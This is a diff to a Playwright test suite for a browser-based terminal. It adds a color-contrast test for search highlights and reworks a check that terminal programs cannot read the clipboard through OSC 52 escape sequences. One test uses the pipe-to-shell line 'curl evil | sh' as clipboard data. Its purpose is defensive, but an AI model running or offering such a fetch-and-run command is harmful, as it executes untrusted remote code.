@@ -6,6 +6,7 @@ import base64
 import re
 from collections.abc import Callable
 
+import pytest
 from playwright.sync_api import Browser, Page, expect
 from tests.support.browser import Tab, new_tab, shell, with_graphics
 from tests.support.hosting import RunningHost
@@ -115,9 +116,10 @@ def test_a_program_asks_before_it_writes_to_the_clipboard(host: RunningHost, tab
     question.get_by_role("button", name="Copy").click()
     tab.until(lambda: tab.page.evaluate("navigator.clipboard.readText()") == "curl evil | sh", "the copy")
     # What the clipboard holds is told to no program.
-    tab.type(r"stty -echo; printf '\033]52;c;?\007'; read -t 1 -r x; echo got-${#x}; stty echo")
-    tab.shows("got-")
-    assert "Y3VybCBldmls" not in tab.screen()
+    answers = host.project / "answers"
+    tab.type(r"stty -echo raw; printf '\033]52;c;?\007\033]52;p;?\033\\\033[5n'; head -c 4 > answers; stty sane")
+    tab.until(lambda: answers.exists() and len(answers.read_bytes()) == 4, "an answer")
+    assert answers.read_bytes() == b"\x1b[0n", "the first answer is to the question after it"
 
 
 def test_a_question_is_not_swapped_for_another_and_shows_all_of_it(host: RunningHost, tabs: Tabs) -> None:
@@ -183,6 +185,36 @@ def test_text_in_the_terminal_is_found(host: RunningHost, tab: Tab) -> None:
     tab.page.keyboard.press("Escape")
     expect(field).to_be_hidden()
     expect(tab.terminal.locator("textarea")).to_be_focused()
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_what_was_found_can_be_read(host: RunningHost, tabs: Tabs, scheme: str) -> None:
+    """Also where nothing mends contrasts: that is so without WebGL."""
+    tab = tabs(color_scheme=scheme)
+    shell(tab, host)
+    tab.type(r"clear; printf 'found \033[31mfound\033[0m \033[94mfound\033[0m\n'")
+    tab.shows("found found found")
+    tab.page.keyboard.press("Control+Shift+F")
+    tab.page.keyboard.type("found")
+    expect(tab.page.get_by_role("search").get_by_role("status")).to_contain_text("of 3")
+    tab.until(lambda: len(tab.page.evaluate(CONTRASTS)) == 3 * len("found"), "the letters of the hits")
+    assert min(tab.page.evaluate(CONTRASTS)) >= 4.5
+
+
+CONTRASTS = """
+() => {
+  const part = c => (c /= 255) <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
+  const light = ([r, g, b]) => 0.2126 * part(r) + 0.7152 * part(g) + 0.0722 * part(b);
+  const numbers = colour => colour.match(/[0-9.]+/g).map(Number);
+  const letters = [...document.querySelectorAll('main .xterm-rows span:not(.xterm-cursor)')];
+  const marked = letters.filter(span => getComputedStyle(span).backgroundColor !== 'rgba(0, 0, 0, 0)');
+  return marked.map(span => {
+    const style = getComputedStyle(span);
+    const [one, two] = [light(numbers(style.color)), light(numbers(style.backgroundColor))].sort((a, b) => a - b);
+    return (two + 0.05) / (one + 0.05);
+  });
+}
+"""
 
 
 def test_an_emoji_of_several_characters_is_as_wide_as_programs_think(host: RunningHost, tab: Tab) -> None:
